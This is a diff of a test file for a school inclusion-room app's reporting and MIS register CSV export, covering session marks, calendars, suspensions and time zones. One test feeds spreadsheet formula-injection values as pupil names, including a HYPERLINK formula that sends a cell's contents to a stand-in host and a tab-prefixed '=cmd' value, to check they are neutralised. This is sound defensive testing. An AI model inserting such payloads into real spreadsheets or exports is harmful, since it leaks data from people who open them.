@@ -1,11 +1,17 @@
 import { describe, expect, it } from 'vitest';
 import Papa from 'papaparse';
-import { reportStats, weekOf } from './reportStats';
+import { reportStats, weekOf, type ReportInput } from './reportStats';
+import { halfTermTrends } from './halfTermTrends';
+import type { PlacementRow } from '../../domain/placement';
+import { inTimeZone } from '../../../tests/fixtures/timeZone';
 import { misRegisterCsv } from './misExport';
 import type { ReferralRow } from '../../domain/referral';
 import type { RegisterEntryRow } from '../../domain/register';
 import type { Pupil } from '../../domain/pupil';
-import { halfTerms2026 } from '../../../tests/fixtures/calendar2026';
+import { calendar2026, halfTerms2026 } from '../../../tests/fixtures/calendar2026';
+import { checkIns as fixtureCheckIns } from '../../../tests/fixtures/smallSchoolTerm';
+
+const fixtureCheckIn = { ...fixtureCheckIns[0]!, pupilId: 'a' };
 
 const pupils = new Map<string, Pupil>([
   ['a', { id: 'a', upn: 'Q823456789012', legalForename: 'Jessica', legalSurname: 'Okafor', yearGroup: 9, tutorGroup: '9X2', sen: 'sen-support' }],
@@ -73,7 +79,7 @@ describe('half-term statistics', () => {
 });
 
 describe('MIS register export', () => {
-  it('writes one row per pupil per room day up to today, with the scheduled referral’s reasons and DfE codes, quoting safely', () => {
+  it('writes one row per pupil per session of a room day up to today, present marked / and \\, with the scheduled referral’s reasons and DfE codes, quoting safely', () => {
     const csv = misRegisterCsv({
       today: '2026-11-03',
       register: [
@@ -90,10 +96,166 @@ describe('MIS register export', () => {
     });
     expect(csv.startsWith('\uFEFFUPN,Legal Surname,Legal Forename,Year,Reg Group,Date,Session,Mark,Mark Description,')).toBe(true);
     const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
+    const absent = ['X', 'Barker, "Tommy"', 'Tom', '10', '10Y1', '02/11/2026'];
+    const present = ['Q823456789012', 'Okafor', 'Jessica', '9', '9X2', '03/11/2026'];
+    const presentRest = ['The BASE', 'Present in the room', '08:50', '15:00', 'Back to lessons', 'No', 'Defiance or refusal to follow instructions; Fighting or assault on a pupil', 'DB, PP', ''];
     expect(rows.slice(1)).toEqual([
-      ['X', 'Barker, "Tommy"', 'Tom', '10', '10Y1', '02/11/2026', 'Day', '', '', 'The BASE', 'Absent from the room', '', '', '', 'No', '', '', 'Rang home'],
-      ['Q823456789012', 'Okafor', 'Jessica', '9', '9X2', '03/11/2026', 'Day', '', '', 'The BASE', 'Present in the room', '08:50', '15:00', 'Back to lessons', 'No',
-        'Defiance or refusal to follow instructions; Fighting or assault on a pupil', 'DB, PP', ''],
+      // Absent from the room: no code invented for either session, the attendance officer decides.
+      [...absent, 'AM', '', '', 'The BASE', 'Absent from the room', '', '', '', 'No', '', '', 'Rang home'],
+      [...absent, 'PM', '', '', 'The BASE', 'Absent from the room', '', '', '', 'No', '', '', 'Rang home'],
+      [...present, 'AM', '/', 'Present (morning)', ...presentRest],
+      [...present, 'PM', '\\', 'Present (afternoon)', ...presentRest],
     ]);
   });
+
+  it('neutralises cells a spreadsheet would run as a formula, even with a line break in them, and keeps quoting and CRLF', () => {
+    const evil = new Map<string, Pupil>([
+      ['a', { ...pupils.get('a')!, legalSurname: '=HYPERLINK("http://x.test/?"&A1)\nOkafor', legalForename: '+Jess' }],
+      ['b', { ...pupils.get('b')!, legalSurname: '@SUM(1+1)', legalForename: '-Tom, "T"' }],
+    ]);
+    const csv = misRegisterCsv({
+      today: '2026-11-03',
+      register: [day('a', '2026-11-02'), day('b', '2026-11-02', { status: 'absent', arrivedAt: null, absenceFollowUp: '\t=cmd' })],
+      checkIns: [], referrals: [], placements: [], pupils: evil, roomName: () => 'The BASE', providerName: () => 'Oak Farm',
+    });
+    expect(csv.split('\r\n')[0]).toMatch(/^\uFEFFUPN,/);
+    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);
+    const cells = rows.flat();
+    // No cell a spreadsheet reads as a formula: every risky first character is behind a '.
+    expect(cells.filter((c) => /^[=+\-@\t\r\n]/.test(c))).toEqual([]);
+    expect(cells).toContain(`'=HYPERLINK("http://x.test/?"&A1)\nOkafor`);
+    expect(cells).toEqual(expect.arrayContaining(["'+Jess", "'@SUM(1+1)", `'-Tom, "T"`, "'\t=cmd"]));
+  });
+
+  it('orders rows the same way whatever order the records come in, two pupils of one name apart by UPN', () => {
+    const twins = new Map<string, Pupil>([
+      ['a', { ...pupils.get('a')!, upn: 'B000000000002', legalSurname: 'Smith', legalForename: 'Sam' }],
+      ['b', { ...pupils.get('b')!, upn: 'A000000000001', legalSurname: 'Smith', legalForename: 'Sam' }],
+    ]);
+    const csvOf = (register: RegisterEntryRow[]) =>
+      misRegisterCsv({ today: '2026-11-03', register, checkIns: [], referrals: [], placements: [], pupils: twins, roomName: () => 'The BASE', providerName: () => 'Oak Farm' });
+    const register = [day('a', '2026-11-02'), day('b', '2026-11-02'), day('a', '2026-11-03'), day('b', '2026-11-03')];
+    const csv = csvOf(register);
+    expect(csvOf([...register].reverse())).toBe(csv);
+    const upns = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1).map((r) => `${r[5]} ${r[0]}`);
+    expect([...new Set(upns)]).toEqual(['02/11/2026 A000000000001', '02/11/2026 B000000000002', '03/11/2026 A000000000001', '03/11/2026 B000000000002']);
+  });
+
+  const base = { checkIns: [], referrals: [], placements: [], roomName: (id: string) => (id === 'base' ? 'The BASE' : 'Isolation'), providerName: () => 'Oak Farm' };
+  const rowsOf = (csv: string) => Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);
+
+  it('has no session on a weekend, in a holiday or on an INSET day: those days are left to the MIS calendar, not coded', () => {
+    // 2026: 28 Nov is a Saturday, 30 Nov the INSET day, 22 Dec in the Christmas holiday, 26 Oct in half term; 1 Dec a school day.
+    const register = ['2026-10-26', '2026-11-28', '2026-11-30', '2026-12-22', '2026-12-01'].map((d) => day('a', d));
+    const checkIn = { ...fixtureCheckIn, date: '2026-11-30' };
+    const csv = misRegisterCsv({ ...base, today: '2026-12-31', register, checkIns: [checkIn], pupils, calendar: calendar2026 });
+    expect(rowsOf(csv).map((r) => `${r[5]} ${r[6]} ${r[7]}`)).toEqual(['01/12/2026 AM /', '01/12/2026 PM \\']);
+    // Without the calendar only the weekend is known not to be a school day.
+    const noCalendar = misRegisterCsv({ ...base, today: '2026-12-31', register, pupils });
+    expect(rowsOf(noCalendar).map((r) => r[5])).not.toContain('28/11/2026');
+  });
+
+  it('marks a pupil sent home suspended E for the sessions after, and no one off the roll', () => {
+    const left = new Map([...pupils, ['b', { ...pupils.get('b')!, leftOn: '2026-11-03' }]]);
+    const csv = misRegisterCsv({
+      ...base, today: '2026-11-30', pupils: left,
+      register: [day('a', '2026-11-02', { status: 'left', leftAt: '11:00', leftTo: 'suspended' }), day('b', '2026-11-02'), day('b', '2026-11-03')],
+    });
+    expect(rowsOf(csv).map((r) => [r[1], r[5], r[6], r[7], r[8], r[17]])).toEqual([
+      ['Barker', '02/11/2026', 'AM', '/', 'Present (morning)', ''],
+      ['Barker', '02/11/2026', 'PM', '\\', 'Present (afternoon)', ''],
+      ['Okafor', '02/11/2026', 'AM', '/', 'Present (morning)', ''],
+      ['Okafor', '02/11/2026', 'PM', 'E', 'Suspended or permanently excluded, no alternative provision made', ''],
+      ['Barker', '03/11/2026', 'AM', '', '', 'Not on the school roll on this day: no mark'],
+      ['Barker', '03/11/2026', 'PM', '', '', 'Not on the school roll on this day: no mark'],
+    ]);
+  });
+
+  it('leaves out today’s afternoon until its register opens: no mark for a session that has not happened', () => {
+    const register = [day('a', '2026-11-02'), day('a', '2026-11-03')];
+    const at = (now: string) => rowsOf(misRegisterCsv({ ...base, today: '2026-11-03', now, register, pupils })).map((r) => `${r[5]} ${r[6]} ${r[7]}`);
+    expect(at('10:00')).toEqual(['02/11/2026 AM /', '02/11/2026 PM \\', '03/11/2026 AM /']);
+    expect(at('14:00')).toEqual(['02/11/2026 AM /', '02/11/2026 PM \\', '03/11/2026 AM /', '03/11/2026 PM \\']);
+  });
+
+  it('does not say "did not arrive" in one room for a pupil who came to another that day', () => {
+    const register = [day('a', '2026-11-02', { roomId: 'isolation' }), day('a', '2026-11-02', { roomId: 'base', status: 'expected', arrivedAt: null })];
+    const rows = rowsOf(misRegisterCsv({ ...base, today: '2026-11-30', register, pupils }));
+    expect(rows.map((r) => [r[6], r[7], r[9], r[10]])).toEqual([
+      ['AM', '/', 'Isolation', 'Present in the room'],
+      ['PM', '\\', 'Isolation', 'Present in the room'],
+    ]);
+    const stats = reportStats({
+      from: '2026-11-02', to: '2026-11-06', today: '2026-11-30', referrals: [], placements: [], register, notes: [], checkIns: [], pupils,
+      roomName: base.roomName, repeatWithinWeeks: 6, halfTerms: halfTerms2026,
+    });
+    expect(stats.didNotArrive).toEqual([]);
+    expect(stats.pupilDays).toBe(1);
+  });
 });
+
+describe('half-term boundaries and counts from the school’s own calendar', () => {
+  const placement = (id: string, finishedOn: string): PlacementRow => ({
+    id, docName: 'pupil/a', pupilId: 'a', referralId: null, kind: 'short', start: '2026-09-07', needsAssessment: 'x', targets: 'x', agreedOutcome: '',
+    status: 'finished', timetable: {}, reintegration: null, outcome: 'successful', finishedOn, createdBy: 's', createdAt: '', updatedBy: 's', updatedAt: '',
+  });
+  const input = (over: Partial<ReportInput>): ReportInput => ({
+    from: '2026-11-02', to: '2026-11-13', today: '2026-12-31', referrals: [], placements: [], register: [], notes: [], checkIns: [], pupils,
+    roomName: () => 'The BASE', repeatWithinWeeks: 6, halfTerms: halfTerms2026, closures: calendar2026.closures, ...over,
+  });
+
+  it('counts a placement finished on the Friday before half term, or in the half-term week, in the half term just ended', () => {
+    // Autumn 1 ends Friday 23 October 2026; half term is 26–30 October; Autumn 2 starts 2 November.
+    const placements = [placement('fri', '2026-10-23'), placement('holiday', '2026-10-28'), placement('mon', '2026-11-02')];
+    const trends = halfTermTrends({ to: '2026-11-20', referrals: [], placements, repeatWithinWeeks: 6, halfTerms: halfTerms2026 });
+    expect(trends.map((t) => [t.label, t.start, t.end, t.finished])).toEqual([
+      ['Autumn 1', '2026-09-02', '2026-11-01', 2],
+      ['Autumn 2', '2026-11-02', '2026-11-20', 1],
+    ]);
+  });
+
+  it('never counts a pupil as not arriving on a closure added after the plan, nor on a weekend', () => {
+    const snow = { id: 'snow', from: '2026-11-10', to: '2026-11-10', label: 'Snow day', kind: 'closure' as const };
+    const expected = { status: 'expected' as const, arrivedAt: null };
+    const register = [day('a', '2026-11-09', expected), day('a', '2026-11-10', expected), day('a', '2026-11-07', expected)];
+    const stats = reportStats(input({ register, closures: [...calendar2026.closures, snow] }));
+    expect(stats.didNotArrive.map((d) => d.date)).toEqual(['2026-11-09']);
+  });
+
+  it('counts no off-site session on a day the school was shut, but still lists its unconfirmed concern', () => {
+    const onInset = { ...fixtureCheckIn, date: '2026-11-30', concern: true, concernRaisedBy: 's', concernRaisedAt: '2026-11-30T10:00:00.000Z' };
+    const onSchoolDay = { ...fixtureCheckIn, date: '2026-11-27' };
+    const stats = reportStats(input({ from: '2026-11-23', to: '2026-12-04', checkIns: [onInset, onSchoolDay] }));
+    expect(stats.offsiteSessions).toEqual([{ label: 'B — Attending any other approved educational activity', count: 2 }]);
+    expect(stats.unconfirmedFlags.offsite).toBe(1);
+  });
+
+  it('does not count a pupil who has left the roll as not arriving on the days their plan still holds', () => {
+    const expected = { status: 'expected' as const, arrivedAt: null };
+    const left = new Map([...pupils, ['a', { ...pupils.get('a')!, leftOn: '2026-11-05' }]]);
+    const register = ['2026-11-04', '2026-11-05', '2026-11-06'].map((d) => day('a', d, expected));
+    expect(reportStats(input({ register, pupils: left })).didNotArrive.map((d) => d.date)).toEqual(['2026-11-04']);
+  });
+
+  it('counts a late arrival once per pupil-day, however many rooms marked it', () => {
+    const register = [day('a', '2026-11-03', { late: true, roomId: 'isolation' }), day('a', '2026-11-03', { late: true, arrivedAt: '12:05' })];
+    expect(reportStats(input({ register }))).toMatchObject({ pupilDays: 1, lateArrivals: 1 });
+  });
+
+  for (const zone of ['Europe/London', 'UTC']) {
+    it(`counts pupil-days and Monday weeks across the clock change and 29 February the same in ${zone}`, () => {
+      inTimeZone(zone, () => {
+        // Clocks go forward on Sunday 28 March 2027; 29 February 2028 is a Tuesday.
+        const spring = reportStats(input({ from: '2027-03-22', to: '2027-04-02', register: ['2027-03-26', '2027-03-29'].map((d) => day('a', d)) }));
+        expect(spring.weekly).toEqual([
+          { weekOf: '2027-03-22', referrals: 0, pupilDays: 1 },
+          { weekOf: '2027-03-29', referrals: 0, pupilDays: 1 },
+        ]);
+        const leap = reportStats(input({ from: '2028-02-28', to: '2028-03-03', halfTerms: [], closures: [], register: ['2028-02-28', '2028-02-29', '2028-03-01'].map((d) => day('a', d)) }));
+        expect(leap).toMatchObject({ pupilDays: 3, weekly: [{ weekOf: '2028-02-28', referrals: 0, pupilDays: 3 }] });
+        expect(leap.byWeekday).toEqual([]);
+      });
+    });
+  }
+});
+
